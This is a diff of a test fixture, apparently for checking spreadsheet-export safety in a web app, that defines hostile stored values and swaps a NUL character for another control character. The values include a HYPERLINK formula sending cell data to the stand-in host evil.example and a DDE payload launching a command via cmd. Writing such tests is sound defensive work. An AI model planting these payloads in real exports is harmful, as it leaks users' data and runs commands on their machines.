@@ -18,7 +18,7 @@ from app.people.models import Department, User
 #: Stored as they would be by older code or an import: the forms refuse control characters today.
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A2,"Klik")'
 HOSTILE = {
-    "wish": FORMULA + "\x00",
+    "wish": FORMULA + "\x02",  # PostgreSQL cannot store NUL, so stored data never holds it
     "line": "+SUM(1;2)\x01",
     "department": "-2+3 Skov/bryn:et\x1b",
     "person": "@cmd|' /C calc'!A0\x0b",
